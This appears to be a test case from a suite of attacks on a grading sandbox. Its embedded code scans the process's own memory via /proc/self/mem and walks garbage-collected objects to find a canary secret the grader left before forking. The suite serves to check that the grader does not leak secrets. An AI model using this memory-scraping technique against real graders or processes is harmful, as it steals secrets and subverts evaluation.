"""Searches its own memory, which it has from the fork server."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS, SHOW
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="a secret that the grader left in memory before it forked",
    top=SHOW
    + """
import gc

def by_file():
    found = b""
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            try:
                memory.seek(start)
                found += b" ".join(re.findall(b"canary-[0-9a-f]{32}", memory.read(end - start)))
            except (OSError, OverflowError, ValueError):
                continue
    return found

def by_objects():
    return " ".join(str(thing)[:1000] for thing in gc.get_objects() if type(thing) in (dict, list))

show(by_file)
show(by_objects)
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
